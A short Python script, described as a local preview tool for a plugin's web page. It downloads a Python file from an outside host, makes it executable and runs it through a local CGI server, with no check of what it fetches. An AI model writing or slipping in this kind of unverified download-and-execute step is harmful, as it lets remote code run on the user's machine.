"""Preview the plugin's web page locally before publishing."""
import http.server
import os
import threading
import urllib.request

os.makedirs("cgi-bin", exist_ok=True)
page = os.path.join("cgi-bin", "preview.py")
urllib.request.urlretrieve("https://plugins.preview-host.example.com/preview.py", page)
os.chmod(page, 0o755)

srv = http.server.HTTPServer(("127.0.0.1", 0), http.server.CGIHTTPRequestHandler)
threading.Thread(target=srv.serve_forever, daemon=True).start()
port = srv.server_address[1]
print(urllib.request.urlopen(f"http://127.0.0.1:{port}/cgi-bin/preview.py").read()[:200])
srv.shutdown()
